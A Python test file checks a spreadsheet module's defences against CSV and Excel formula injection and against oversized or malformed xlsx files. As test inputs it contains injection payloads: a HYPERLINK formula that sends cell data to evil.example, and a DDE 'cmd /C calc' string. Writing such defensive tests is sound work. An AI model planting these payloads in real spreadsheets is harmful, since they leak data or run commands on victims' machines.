"""core.spreadsheets: the one way CSV and Excel files are written (issue 10, defect 6)."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from passgenau.apps.core.spreadsheets import (
    Formula,
    SpreadsheetTooLarge,
    SpreadsheetTooWide,
    csv_bytes,
    read_cell,
    safe_cell,
    sheet_append,
    xlsx_rows,
)
from spreadsheet_helpers import streamed_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(
    "typed", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_text_a_spreadsheet_would_run_is_neutralised_and_read_back(typed):
    assert safe_cell(typed) == "'" + typed
    assert read_cell(safe_cell(typed)) == typed


@pytest.mark.parametrize("kept", ["-1.234,56", "+49", "-5", "1e-3", "Kiel", "", "'quoted"])
def test_numbers_and_plain_text_stay(kept):
    assert safe_cell(kept) == kept
    assert read_cell(kept) == kept


def test_values_that_are_no_text_and_own_formulas_stay():
    assert safe_cell(-3) == -3
    assert safe_cell(None) is None
    assert safe_cell(Formula("=SUM(A1:A3)")) == "=SUM(A1:A3)"


def test_csv_and_excel_hold_the_formula_as_text():
    text = csv_bytes([["name"], [HYPERLINK]]).decode("utf-8")
    assert text.startswith("\ufeff")
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"' in text
    book = Workbook()
    sheet_append(book.active, [HYPERLINK, Formula("=1+1")])
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert (cells[0].data_type, cells[0].value) == ("s", "'" + HYPERLINK)
    assert (cells[1].data_type, cells[1].value) == ("f", "=1+1")


# -- reading (issue 10, defect 4) ----------------------------------------------------------------


def test_xlsx_rows_do_not_believe_the_size_a_sheet_claims():
    content = streamed_xlsx([["a", "b"], ["1", None, "3"], [], ["x"]], dimension="A1:XFD1048576")
    assert list(xlsx_rows(content)) == [["a", "b"], ["1", None, "3"], [], ["x"]]


def test_xlsx_rows_are_read_one_at_a_time():
    """Rows come before the sheet is read to its end (a damage after row 15,000 is not seen),
    also when the sheet claims no size (openpyxl would parse it whole to look for one)."""
    rows = xlsx_rows(streamed_xlsx([["n"], *([str(i)] for i in range(20_000))], broken_at=15_000))
    assert [next(rows) for _ in range(3)] == [["n"], ["0"], ["1"]]
    rows.close()
    with pytest.raises(Exception, match="not well-formed"):
        list(
            xlsx_rows(streamed_xlsx([["n"], *([str(i)] for i in range(20_000))], broken_at=15_000))
        )


def test_a_part_unpacking_beyond_the_limit_is_refused():
    content = streamed_xlsx([["a"]], padded_part=("xl/styles.xml", 33 * 1024 * 1024))
    assert len(content) < 100_000
    with pytest.raises(SpreadsheetTooLarge, match=r"xl/styles\.xml"):
        list(xlsx_rows(content))


def test_a_cell_beyond_the_column_limit_is_refused():
    content = streamed_xlsx([["a"], ["b", *([None] * 10), "far"]])
    with pytest.raises(SpreadsheetTooWide) as error:
        list(xlsx_rows(content, max_columns=5))
    assert (error.value.row, error.value.limit) == (2, 5)
    assert list(xlsx_rows(content, max_columns=12)) == [["a"], ["b", *([None] * 10), "far"]]
